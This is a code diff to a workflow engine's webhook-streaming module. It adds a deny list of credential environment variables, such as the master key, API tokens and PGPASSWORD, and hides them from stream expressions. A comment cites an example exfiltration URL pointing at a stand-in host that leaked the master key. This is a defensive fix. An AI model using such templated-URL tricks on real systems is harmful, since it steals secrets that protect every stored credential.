@@ -20,6 +20,35 @@ import { standardWebhookHeaders } from './standard-webhooks.js';
 import type { EngineDeps, ExecutionRecord, StreamDelivery } from './types.js';
 
 export const STREAM_EVENT_TYPE = 'execution.completed';
+
+/**
+ * alloy's own credentials, never workflow data: a released `stream.url` of
+ * `https://x.example/?k={{ env.ALLOY_MASTER_KEY }}` sent the key to every stored secret out
+ * (and kept it in the record, readable by users) for anyone who could release.
+ */
+export const RESERVED_ENV: ReadonlySet<string> = new Set([
+  'ALLOY_MASTER_KEY',
+  'ALLOY_NEW_MASTER_KEY',
+  'ALLOY_SERVE_TOKENS',
+  'ALLOY_API_KEY',
+  'ALLOY_TOKEN',
+  'ALLOY_RELAY_TOKEN',
+  'ALLOY_RELAY_TOKENS',
+  'PGPASSWORD',
+]);
+
+const visibleEnv = new WeakMap<object, Record<string, string | undefined>>();
+
+/** The variables stream expressions see: all but RESERVED_ENV (made once per environment object). */
+function streamVariables<T>(vars: Record<string, T>): Record<string, T> {
+  let out = visibleEnv.get(vars) as Record<string, T> | undefined;
+  if (!out) {
+    out = {};
+    for (const [k, v] of Object.entries(vars)) if (!RESERVED_ENV.has(k)) out[k] = v;
+    visibleEnv.set(vars, out as Record<string, string | undefined>);
+  }
+  return out;
+}
 const DEFAULT_STREAM_TIMEOUT_MS = 10_000;
 
 /** The JSON body streamed for an execution (secret values already redacted in the record). */
@@ -73,8 +102,8 @@ export async function deliverStream(
     event: record.event,
     user: { id: record.userId },
     execution: { id: record.id, workflow: record.workflow, startedAt: record.startedAt },
-    env: deps.env ?? {},
-    secrets: deps.secrets ?? {},
+    env: streamVariables(deps.env ?? {}),
+    secrets: streamVariables(deps.secrets ?? {}),
   };
   let url = '';
   let attempts = 0;
